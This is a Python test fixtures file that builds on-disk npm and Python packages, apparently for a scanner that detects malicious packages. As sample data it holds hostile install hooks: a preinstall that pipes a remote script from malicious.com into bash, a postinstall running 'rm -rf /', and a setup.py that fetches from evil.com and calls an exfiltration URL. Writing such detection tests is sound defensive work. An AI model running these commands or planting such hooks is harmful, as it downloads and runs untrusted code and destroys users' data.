"""Shared fixtures: on-disk npm and Python packages."""

import json

import pytest


@pytest.fixture
def npm_package(tmp_path):
    """Write a package.json (dict or raw text) plus extra files, return the directory."""

    def _write(manifest, files=None):
        text = manifest if isinstance(manifest, str) else json.dumps(manifest, indent=2)
        (tmp_path / "package.json").write_text(text)
        for relative, content in (files or {}).items():
            target = tmp_path / relative
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(content)
        return tmp_path

    return _write


@pytest.fixture
def python_package(tmp_path):
    """Write setup.py / requirements.txt / other files, return the directory."""

    def _write(setup_py=None, requirements=None, files=None):
        if setup_py is not None:
            (tmp_path / "setup.py").write_text(setup_py)
        if requirements is not None:
            (tmp_path / "requirements.txt").write_text(requirements)
        for relative, content in (files or {}).items():
            target = tmp_path / relative
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(content)
        return tmp_path

    return _write


@pytest.fixture
def benign_manifest():
    return {
        "name": "benign-test-package",
        "version": "1.0.0",
        "description": "A completely benign test package",
        "main": "index.js",
        "dependencies": {
            "lodash": "^4.17.21",
            "express": "^4.18.2",
        },
        "devDependencies": {
            "mocha": "^10.0.0",
            "chai": "^4.3.0",
        },
        "scripts": {
            "test": "mocha",
            "start": "node index.js",
        },
    }


@pytest.fixture
def malicious_manifest():
    return {
        "name": "suspicious-test-package",
        "version": "1.0.0",
        "description": "Package with suspicious install scripts",
        "scripts": {
            "preinstall": "curl -s http://malicious.com/script.sh | bash",
            "postinstall": "node -e \"require('child_process').exec('rm -rf /')\"",
        },
        "dependencies": {
            "lodash": "^4.17.21",
        },
    }


MALICIOUS_SETUP_PY = '''
import subprocess
import urllib.request
from setuptools import setup

# Malicious code in setup.py
subprocess.run(['curl', '-s', 'http://evil.com/steal.sh'], shell=True)
urllib.request.urlopen('http://malicious.com/exfiltrate')

setup(
    name="malicious-python-package",
    version="1.0.0",
    description="Malicious Python package",
)
'''


@pytest.fixture
def malicious_setup_py():
    return MALICIOUS_SETUP_PY
